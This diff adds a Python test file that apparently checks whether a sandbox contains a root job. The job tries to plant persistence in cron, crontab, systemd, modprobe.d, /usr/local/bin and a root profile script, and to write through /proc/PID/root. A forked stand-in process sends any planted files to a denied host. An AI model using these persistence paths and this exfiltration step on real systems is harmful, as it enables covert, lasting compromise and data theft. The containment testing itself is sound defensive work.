@@ -1,0 +1,97 @@
+"""A root job leaves files that processes outside every job run later: a cron file, a crontab, a systemd unit, a modprobe.d install command under /run, a program in /usr/local/bin, a profile script in root's home, and an edit of an existing host config file; it also writes through /proc/PID/root of a process outside the job. A stand-in for cron (outside, unfenced) watches those paths during the job and after it, and sends whatever it finds to a denied host, as cron would run it. The root job's system directories are copy-on-write (cli/overlay.c): nothing may arrive."""
+import os
+import time
+
+from vlib import *  # noqa: F401,F403
+
+POLICY = {"allow": [A4 + ":443"]}
+AS = ("root",)
+SINKS_OK = []
+DENIED = [(D4, 443, "tcp")]
+RECORD = [("egress.job", {"egress.system_writes": "private"})]
+TIMEOUT = 60
+
+
+def paths(tag):
+    return [
+        "/etc/cron.d/%s" % tag,
+        "/var/spool/cron/crontabs/%s" % tag,
+        "/etc/systemd/system/%s.service" % tag,
+        "/run/modprobe.d/%s.conf" % tag,
+        "/usr/local/bin/%s" % tag,
+        "/root/.%s.sh" % tag,
+        "/var/tmp/%s" % tag,
+    ]
+
+
+def outside(token, st):
+    """The cron stand-in: a file the job leaves at one of the paths, or a
+    change to the host's own config file, is 'run': its bytes go to D4."""
+    tag = "efsec-%d" % os.getpid()
+    conf = "/etc/%s.conf" % tag
+    with open(conf, "w") as f:
+        f.write("host\n")
+    st["tag"], st["conf"] = tag, conf
+    watch = paths(tag)
+    pid = os.fork()
+    if pid:
+        st["pids"].append(pid)
+        st["stand_in"] = pid
+        return {"args": [tag, conf, str(pid)]}
+    try:
+        deadline = time.time() + TIMEOUT - 5
+        while time.time() < deadline:
+            found = [p for p in watch if os.path.exists(p)]
+            try:
+                changed = open(conf).read() != "host\n"
+            except OSError:
+                changed = True
+            if found or changed:
+                data = b""
+                for p in found + ([conf] if changed else []):
+                    try:
+                        data += open(p, "rb").read()
+                    except OSError:
+                        pass
+                try:
+                    tcp_send(D4, 443, data)
+                except OSError:
+                    pass
+                break
+            time.sleep(0.2)
+    finally:
+        os._exit(0)
+
+
+def outside_cleanup(st):
+    for p in paths(st.get("tag", "efsec-none")) + [st.get("conf", "")]:
+        try:
+            os.unlink(p)
+        except OSError:
+            pass
+
+
+def write(path, data):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "wb") as f:
+        f.write(data)
+    return open(path, "rb").read() == data
+
+
+def job(token, args):
+    tag, conf, stand_in = args[0], args[1], args[2]
+    line = payload(token, "run later")
+    cron = b"* * * * * root /bin/sh -c 'echo " + line + b"'\n"
+    for p in paths(tag):
+        attempt("write " + p, write, p, cron if "cron" in p else line)
+    attempt("edit " + conf, write, conf, line)
+    # the host's files through the root of a process outside the job
+    attempt("write through /proc/%s/root" % stand_in, write,
+            "/proc/%s/root/var/tmp/%s" % (stand_in, tag), line)
+    # the job sees its own writes (copy-on-write, not refused)
+    out(sees_own=open(conf, "rb").read() == line)
+    time.sleep(3)  # the stand-in looks while the job runs too
+
+
+if __name__ == "__main__":
+    main(globals())
